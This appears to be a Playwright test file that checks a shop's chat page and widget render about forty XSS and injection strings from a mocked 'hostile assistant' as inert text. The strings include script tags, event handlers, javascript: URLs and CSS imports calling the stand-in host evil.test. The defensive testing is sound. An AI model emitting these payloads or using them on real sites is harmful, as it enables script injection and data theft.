"""Five hundred hostile outputs in the page and in the widget: nothing runs, nothing is fetched."""

from collections.abc import Iterator
from dataclasses import dataclass
from itertools import cycle, islice
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Frame, Page, expect

from core.turn import Citation, ShownProduct, Turn

pytestmark = pytest.mark.slow

OUTPUTS = 500
"""Hostile texts shown in each of the two."""

_RUN = "window.__ran=1"
_EVIL = "http://evil.test"
_TEXTS = (
    f"<script>{_RUN}</script>",
    f"<script src={_EVIL}/s.js></script>",
    f"<img src={_EVIL}/i.png onerror={_RUN}>",
    f"![x]({_EVIL}/m.png)",
    f"![x][r]\n\n[r]: {_EVIL}/r.png",
    f"[click](javascript:{_RUN})",
    f"[click](JaVaScRiPt&#58;{_RUN})",
    f"[click]({_EVIL}/link)",
    "[click](//evil.test/x)",
    "[click](/\\evil.test/x)",
    "[click](/%5Cevil.test/x)",
    f"[click](data:text/html,<script>{_RUN}</script>)",
    f"<{_EVIL}/auto>",
    f"<a href={_EVIL} ping={_EVIL}/ping>a</a>",
    "<iframe src=//evil.test></iframe>",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    f"<svg onload={_RUN}><use href={_EVIL}/u.svg#x /></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<style>@import url({_EVIL}/c.css);*{{background:url({_EVIL}/b.png)}}</style>",
    f"<link rel=stylesheet href={_EVIL}/l.css><link rel=preload as=image href={_EVIL}/p.png>",
    f'<meta http-equiv=refresh content="0;url={_EVIL}">',
    f"<base href={_EVIL}/>",
    f"<form action={_EVIL}><input autofocus onfocus={_RUN}></form>",
    f"<details open ontoggle={_RUN}>x</details>",
    f"<video poster={_EVIL}/v.png><source src=x onerror={_RUN}></video>",
    f"<object data={_EVIL}/o></object><embed src={_EVIL}/e>",
    f'<math><mtext><style><img title="</style><img src=x onerror={_RUN}>">',
    f'"><img src=x onerror={_RUN}>',
    f"' onmouseover='{_RUN}' autofocus onfocus='{_RUN}",
    f"</script><script>{_RUN}</script>",
    f"</textarea><img src=x onerror={_RUN}>",
    f"${{{_RUN}}} {{{{constructor.constructor('{_RUN}')()}}}} <%= {_RUN} %>",
    f"`${{{_RUN}}}` \\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f'<p style="background:url({_EVIL}/s.png)" class="card">x</p>',
    f"| a | b |\n|---|---|\n| <img src={_EVIL}/t.png> | ![x]({_EVIL}/t2.png) |",
    f"1. **<img src=x onerror={_RUN}>**, $5",
    f"> <script>{_RUN}</script>",
    f"```html\n<script>{_RUN}</script>\n```",
    f"\u202e<script>{_RUN}</script>\u2066",
)
_PICTURES = (
    f"{_EVIL}/picture.png",
    "//evil.test/p.png",
    f"javascript:{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    f'x.svg" onerror="{_RUN}',
    "../../secret.svg",
)


@dataclass
class HostileAssistant:
    """Says only what would harm a page that took it for more than text."""

    texts: Iterator[str]
    said: int = 0

    def greeting(self, customer_id: str | None) -> Turn:
        return Turn(conversation_id="", turn=0, model="hostile", reply="Hello.")

    def stream(self, text: str, *, conversation_id: str, **_: Any) -> Iterator[str | Turn]:
        turn = self._turn(conversation_id)
        yield turn.reply
        yield turn

    def _turn(self, conversation_id: str) -> Turn:
        pictures = cycle(_PICTURES)
        products = tuple(
            ShownProduct(
                id=self._next(),
                title=self._next(),
                brand=self._next(),
                category=self._next(),
                why=self._next(),
                image=next(pictures),
                price=5,
                currency="USD",
            )
            for _ in range(6)
        )
        return Turn(
            conversation_id=conversation_id,
            turn=1,
            model=self._next(),
            reply="\n\n".join(self._next() for _ in range(6)),
            products=products,
            citations=tuple(
                Citation(kind=self._next(), id=self._next(), quote=self._next()) for _ in range(3)
            ),
            suggestions=tuple(self._next() for _ in range(4)),
            degraded=self._next(),
        )

    def _next(self) -> str:
        self.said += 1
        return next(self.texts)


@pytest.fixture
def hostile(shop: Any) -> HostileAssistant:
    shop.assistant = HostileAssistant(islice(cycle(_TEXTS), 100_000))
    return shop.assistant  # type: ignore[no-any-return]


@pytest.fixture
def watched(browser: Browser, hostile: HostileAssistant, address: str) -> Iterator[Page]:
    """A page of which nothing may run, open a dialog, go elsewhere or be fetched elsewhere."""
    fetched: list[str] = []
    dialogs: list[str] = []
    page = browser.new_page()
    page.set_default_timeout(30_000)
    page.on("request", lambda request: fetched.append(request.url))
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    page.on("popup", lambda popup: fetched.append(popup.url))
    yield page
    assert [frame.url for frame in page.frames if frame.evaluate("window.__ran === 1")] == []
    here = urlsplit(address).netloc
    foreign = [url for url in fetched if urlsplit(url).netloc not in {here, ""}]
    assert foreign == []
    assert dialogs == []
    assert hostile.said >= OUTPUTS
    page.close()


def links(frame: Frame | Page) -> list[str]:
    found: list[str] = frame.evaluate("[...document.querySelectorAll('a')].map(a => a.href)")
    return found


def test_the_page_shows_them_as_text(
    watched: Page, hostile: HostileAssistant, address: str
) -> None:
    watched.goto(address)
    expect(watched.locator("#live .reply")).to_contain_text("Hello.")
    for number in range(100):
        if hostile.said >= OUTPUTS:
            break
        watched.get_by_role("textbox", name="Your message").fill(f"again {number}")
        watched.keyboard.press("Enter")
        expect(watched.locator("#live .said")).to_have_text(f"You: again {number}")
        expect(watched.locator("#live .typing")).to_have_count(0)
        watched.wait_for_timeout(100)  # for what would be fetched late
    assert [link for link in links(watched) if "evil" in urlsplit(link).netloc] == []


def test_the_widget_shows_them_as_text(
    watched: Page, hostile: HostileAssistant, address: str
) -> None:
    watched.goto(f"{address}/widget-demo")
    watched.get_by_role("button", name="Ask our shopping assistant").click()
    panel = watched.frame_locator("iframe")
    box = panel.get_by_role("textbox", name="Your message")
    for number in range(100):
        if hostile.said >= OUTPUTS:
            break
        said = hostile.said
        box.fill(f"again {number}")
        box.press("Enter")
        expect(panel.get_by_text(f"again {number}").last).to_be_visible()
        while hostile.said == said:
            watched.wait_for_timeout(50)
        watched.wait_for_timeout(250)
    for frame in watched.frames:
        assert [link for link in links(frame) if "evil" in urlsplit(link).netloc] == []
